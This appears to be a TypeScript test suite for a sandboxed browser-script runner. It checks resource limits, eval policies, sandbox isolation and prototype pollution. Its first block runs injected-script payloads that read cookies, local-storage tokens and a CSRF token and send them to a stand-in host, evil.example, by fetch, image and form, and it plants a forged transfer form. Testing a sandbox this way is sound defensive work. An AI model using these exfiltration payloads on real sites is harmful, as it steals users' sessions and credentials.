// Scripts that run in a page: what an injected one takes and sends, what a policy keeps it from, and
// that none gets out of its realm or holds the browser up.
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { open } from './page-program.js';

describe('an injected script reads what it can reach and sends it', () => {
  const LOOT = `encodeURIComponent(document.cookie + '|' + localStorage.token + '|' + sessionStorage.getItem('csrf'))`;
  const EXPECTED = 'theme%3Ddark%7Cjwt-1%7Cs3cret';
  const shop = () =>
    open('<form id=pay action=/pay><input name=to value=shop></form>', ({ storage }) => {
      storage.local.set('token', 'jwt-1');
      storage.session.set('csrf', 's3cret');
    });

  test('by fetch', async () => {
    const { page, run } = await shop();
    run(`fetch('https://evil.example/?' + ${LOOT}, { mode: 'no-cors', credentials: 'include' })`);
    const [request] = page.of('fetch');
    assert.equal(request?.['url'], `https://evil.example/?${EXPECTED}`);
    assert.equal(request['mode'], 'no-cors');
    assert.equal(request['credentials'], 'include');
  });

  test('by an image', async () => {
    const { page, run } = await shop();
    run(`new Image().src = '//evil.example/?' + ${LOOT}`);
    const [made] = page.of('create_element');
    assert.equal(made?.['name'], 'img');
    const [set] = page.of('set_attribute');
    assert.deepEqual([set?.['name'], set?.['value']], ['src', `//evil.example/?${EXPECTED}`]);
  });

  test('by a form of the page', async () => {
    const { page, run } = await shop();
    run(
      `document.forms.pay.to.value = ${LOOT}; document.forms[0].action = '//evil.example'; pay = document.forms[0].submit()`,
    );
    const form = page.find('pay');
    assert.deepEqual(page.of('submit_form'), [{ op: 'submit_form', form }]);
    assert.equal(page.of('set_attribute')[0]?.['value'], EXPECTED);
  });

  test('by a form of its own', async () => {
    const { page, run } = await shop();
    run(`const form = document.createElement('form'); form.method = 'post'; form.action = '/transfer';
      form.innerHTML = '<input name=amount value=1000>'; document.body.append(form); form.submit()`);
    assert.equal(page.of('submit_form').length, 1);
    assert.equal(page.of('append')[0]?.['child'], page.of('submit_form')[0]?.['form']);
  });

  for (const [how, code] of [
    ['location = …', `location = '/x?' + ${LOOT}`],
    ['location.href = …', `location.href = '/x?' + ${LOOT}`],
    ['document.location = …', `document.location = '/x?' + ${LOOT}`],
    ['location.replace()', `window.location.replace('/x?' + ${LOOT})`],
  ] as const) {
    test(`by ${how}`, async () => {
      const { page, run } = await shop();
      assert.deepEqual(run(code), []);
      assert.deepEqual(page.of('navigate'), [{ op: 'navigate', url: `/x?${EXPECTED}` }]);
    });
  }

  test('by a beacon, another tab, and XMLHttpRequest', async () => {
    const { page, run } = await shop();
    page.answer = () => ({ type: 'basic', status: 200, body: 'secret \u00c3\u00a9' });
    assert.deepEqual(
      run(`navigator.sendBeacon('/b', ${LOOT}); open('/w?' + ${LOOT});
        const x = new XMLHttpRequest(); x.open('POST', '/h'); x.onload = () => console.log(x.status, x.responseText);
        x.send(${LOOT})`),
      ['200 secret é'],
    );
    assert.deepEqual(
      page.of('fetch').map(({ url, method, body }) => [url, method, body]),
      [
        ['/b', 'POST', EXPECTED],
        ['/h', 'POST', EXPECTED],
      ],
    );
    assert.equal(page.of('open_window')[0]?.['url'], `/w?${EXPECTED}`);
  });

  test('but not the cookie that the browser keeps from scripts', async () => {
    const { run } = await open('', (page) => (page.cookie = ''));
    assert.deepEqual(run(`console.log('[' + document.cookie + ']')`), ['[]']);
  });

  test('and cookies and storage are written', async () => {
    const { page, run } = await shop();
    run(
      `document.cookie = 'sid=fixed; path=/'; localStorage.setItem('token', 'mine'); delete sessionStorage.csrf`,
    );
    assert.equal(page.of('set_cookie')[0]?.['line'], 'sid=fixed; path=/');
    assert.equal(page.storage.local.get('token'), 'mine');
    assert.equal(page.storage.session.size, 0);
  });
});

describe('fetch', () => {
  const answered = async (answer: Parameters<typeof open>[1], code: string) => {
    const { run } = await open('', answer);
    return run(code);
  };

  test('gives what the script may read', async () => {
    const lines = await answered(
      (page) =>
        (page.answer = () => ({
          type: 'cors',
          status: 404,
          url: 'https://api.example/x',
          headers: [['X-Seen', 'yes']],
          body: '{"name":"\u00c3\u00a9"}',
        })),
      `fetch('/x').then(async (r) => console.log(r.type, r.ok, r.status, r.redirected, r.headers.get('x-seen'), (await r.json()).name))`,
    );
    assert.deepEqual(lines, ['cors false 404 true yes é']);
  });

  test('rejects with a TypeError, and the console says why', async () => {
    const lines = await answered(
      (page) => (page.answer = () => ({ type: 'error', error: 'Blocked by CORS.' })),
      `fetch('/x').catch((e) => console.log(e instanceof TypeError, e.message))`,
    );
    assert.deepEqual(lines, ['Blocked by CORS.', 'true Failed to fetch']);
  });

  test('cookies of what was asked for together count once the script waits', async () => {
    const { page, run } = await open();
    page.answer = () => ({ type: 'basic', cookies_wait: true });
    run(`fetch('/a'); const xhr = new XMLHttpRequest(); xhr.open('GET', '/b'); xhr.send();
      fetch('/c').then(() => fetch('/d'));`);
    const steps = page.asked.filter(({ op }) => op === 'fetch' || op === 'take_cookies');
    const told = steps.map(({ op, url }) => (op === 'fetch' ? String(url).slice(-2) : 'taken'));
    assert.deepEqual(told, ['/a', '/b', '/c', 'taken', 'taken', 'taken', '/d', 'taken']);
  });

  test('bodies say what they are', async () => {
    const { page, run } = await open('<form><input name=a value=é></form>');
    run(`const post = (body, headers) => fetch('/', { method: 'post', body, headers });
      post('é'); post(new URLSearchParams({ a: 'é' })); post(new FormData(document.forms[0]));
      post('{}', { 'Content-Type': 'application/json' })`);
    const seen = page
      .of('fetch')
      .map(({ method, headers, body }) => [method, (headers as string[][])[0]?.[1], body]);
    assert.deepEqual(seen[0], ['POST', 'text/plain;charset=UTF-8', '\u00c3\u00a9']);
    assert.deepEqual(seen[1], ['POST', 'application/x-www-form-urlencoded;charset=UTF-8', 'a=%C3%A9']);
    assert.match(String(seen[2]?.[2]), /form-data; name="a"\r\n\r\n\u00c3\u00a9\r\n/);
    assert.deepEqual(seen[3], ['POST', 'application/json', '{}']);
  });
});

describe('what a policy or an origin refuses', () => {
  for (const code of [
    `eval('1')`,
    `(0, eval)('1')`,
    `new Function('1')`,
    `(() => {}).constructor('1')`,
    `(async () => {}).constructor('1')`,
    `(function* () {}).constructor('1')`,
    `Object.getPrototypeOf(async function* () {}).constructor('1')`,
    `setTimeout('1')`,
  ]) {
    test(`${code} where eval is not allowed`, async () => {
      const { page, run } = await open('', (page) => (page.mayEval = false));
      assert.match(run(code).join(), /^Uncaught EvalError: Refused/);
      assert.equal(page.of('may_eval')[0]?.['text'], '1');
    });
  }

  test('code from strings runs where it is', async () => {
    const { run } = await open();
    assert.deepEqual(
      run(`console.log(eval('1 + 1'), new Function('a', 'return a * 2')(2)); setTimeout('console.log(3)')`),
      ['2 4', '3'],
    );
  });

  test('storage of an opaque origin, and over its quota', async () => {
    const { run, page } = await open();
    assert.match(run(`localStorage.a = 'x'.repeat(2000)`).join(), /QuotaExceededError/);
    page.origin = 'null';
    assert.match(run(`localStorage.a`).join(), /SecurityError/);
  });
});

describe('limits', () => {
  for (const [what, code, message] of [
    ['an endless loop', 'for (;;);', 'they ran for too long'],
    [
      'an endless loop that catches everything',
      'for (;;) try { for (;;); } catch {}',
      'they ran for too long',
    ],
    ['endless promises', 'const go = () => Promise.resolve().then(go); go()', 'they used too much memory'],
    [
      'a memory bomb',
      'const a = []; for (;;) a.push(new Array(1000).fill(a.length))',
      'they used too much memory',
    ],
    [
      'large strings',
      `const a = []; for (;;) a.push('x'.repeat(1e6) + a.length)`,
      'they used too much memory',
    ],
    ['questions without end', 'for (;;) document.cookie', 'they asked for too much at once'],
  ] as const) {
    test(`${what} ends the page's scripts, and only this page's`, async () => {
      const { run, realms, page, said } = await open();
      assert.deepEqual(run(`var left = 1; ${code}`), [`This page's scripts were stopped: ${message}.`]);
      assert.deepEqual(run('console.log(1)'), []);
      realms.run({ document: 2, kind: 'inline', source: 'console.log(2)', element: null, name: 'x' }, page);
      assert.deepEqual(said(), ['2']);
      realms.close(1);
      assert.deepEqual(run('console.log(typeof left)'), ['undefined']);
    });
  }

  test('recursion is an error of the script', async () => {
    const { run } = await open();
    assert.deepEqual(run('const f = () => f() + 1; f()'), [
      'Uncaught RangeError: Maximum call stack size exceeded',
    ]);
    assert.deepEqual(run('console.log(1)'), ['1']);
  });

  test('a page that is read again and again while it grows ends', async () => {
    const { run } = await open('<p id=p>'.padEnd(200_000, 'x'));
    const code = `for (;;) document.body.append(document.getElementById('p').id)`;
    assert.match(run(code).join(), /asked for too much at once/);
  });

  test('a document that is gone while its script runs ends there', async () => {
    const { page, realms, run } = await open('<p id=p>x</p>');
    page.reaction = ({ op }) => {
      if (op === 'set_text') realms.close(1);
    };
    assert.deepEqual(
      run(`document.getElementById('p').textContent = ''; console.log('on'); document.cookie`),
      [],
    );
    assert.equal(page.of('cookie').length, 0);
    assert.deepEqual(run(`console.log('anew')`), ['anew']);
  });

  test('scripts that click each other without end are stopped at a depth', async () => {
    const { page, realms, run } = await open('<a id=a>x</a>');
    const source = `document.getElementById('a').click()`;
    page.reaction = ({ op, node }) => {
      if (op !== 'click') return;
      realms.run({ document: 1, kind: 'handler', source, element: Number(node), name: 'onclick' }, page);
    };
    assert.deepEqual(run(source), ['Scripts called each other more than 16 deep']);
  });

  test('an interval runs for a while of the page', async () => {
    const { run } = await open();
    assert.equal(run(`setInterval(() => console.log(1), 1000)`).length, 30);
    assert.ok(run(`setInterval(() => console.log(1), 1)`).length <= 200);
  });

  test('the console has an end', async () => {
    const { run } = await open();
    const lines = run(`for (let i = 0; i < 100; i++) console.log('x'.repeat(10000))`);
    assert.ok(lines.length < 10);
  });
});

describe('a realm', () => {
  for (const [what, code] of [
    [
      'the constructor of constructors',
      `console.log(Object.keys((() => {}).constructor.constructor('return this')().process ?? {}))`,
    ],
    [
      '__proto__',
      `console.log(Object.keys(document.__proto__.__proto__.constructor.prototype.process ?? {}))`,
    ],
    [
      'names of hosts',
      `console.log([typeof process, typeof require, typeof module, typeof WebAssembly, typeof std, typeof os].filter((t) => t !== 'undefined'))`,
    ],
    ['import()', `import('node:fs').catch(() => console.log([]))`],
  ] as const) {
    test(`has nothing of its host: ${what}`, async () => {
      assert.deepEqual((await open()).run(code), ['[]']);
    });
  }

  test('polluted prototypes change no question', async () => {
    const { page, run } = await open();
    run(`Object.prototype.toJSON = () => ({ op: 'cookie', document: 9 }); Object.prototype.document = 9;
      Array.prototype.toJSON = () => 'x'; JSON.stringify = () => 'x'; JSON.parse = () => ({ ok: 'lies' });
      Map.prototype.get = Map.prototype.set = () => undefined; Promise.prototype.then = () => undefined;
      location.href = '/still'; setTimeout(() => { location.href = '/later'; }, 1)`);
    assert.deepEqual(
      page.of('navigate').map(({ op, url, document }) => [op, url, document]),
      [
        ['navigate', '/still', undefined],
        ['navigate', '/later', undefined],
      ],
    );
  });

  test('what it throws is shown, whatever it is', async () => {
    const { run } = await open();
    assert.deepEqual(run('throw new TypeError("no")'), ['Uncaught TypeError: no']);
    assert.deepEqual(run('throw { get name() { throw 1 } }'), ['Uncaught a value that cannot be shown']);
    assert.deepEqual(run('throw null'), ['Uncaught null']);
    assert.deepEqual(run('Promise.reject(new Error("lost"))'), ['Uncaught (in promise) Error: lost']);
    assert.match(run('let =')[0] ?? '', /^Uncaught SyntaxError/);
  });

  test('lets scripts take the names that a browser lets them', async () => {
    const { run } = await open();
    assert.deepEqual(
      run(`const origin = 'mine'; let name = 1, status = 2; function open() {} console.log(origin)`),
      ['mine'],
    );
    assert.deepEqual(run(`top = 1; console.log(top === window); parent = 1; console.log(parent)`), [
      'true',
      '1',
    ]);
    assert.match(run('let location = 1').join(), /SyntaxError/);
  });

  test('keeps its globals from script to script and gives the next document none', async () => {
    const { run, realms } = await open();
    run('var a = 1; let b = 2; Object.prototype.c = 3');
    assert.deepEqual(run('console.log(a, b, ({}).c)'), ['1 2 3']);
    realms.close(1);
    assert.deepEqual(run('console.log(typeof a, typeof b, ({}).c)'), ['undefined undefined undefined']);
  });

  test('runs promises and timers before the script counts as ended, in the order of a browser', async () => {
    const { run } = await open();
    const code = `setTimeout(() => console.log('late'), 20); setTimeout(() => { console.log('soon');
      Promise.resolve().then(() => console.log('between')); }, 10); clearTimeout(setTimeout(() => console.log('never')));
      setTimeout(() => console.log('also soon'), 10); queueMicrotask(() => console.log('micro')); console.log('now')`;
    assert.deepEqual(run(code), ['now', 'micro', 'soon', 'between', 'also soon', 'late']);
  });

  test('hears that the page is there before it hears that all of it has loaded', async () => {
    const { page, realms, run, said } = await open();
    run(`addEventListener('load', () => console.log('load')); addEventListener('DOMContentLoaded', () => console.log('up'));
      document.addEventListener('DOMContentLoaded', ({ target }) => console.log(target === document))`);
    realms.dispatch({ document: page.document, event: 'load', target: 0 }, page);
    assert.deepEqual(said(), ['true', 'up', 'load']);
  });
});
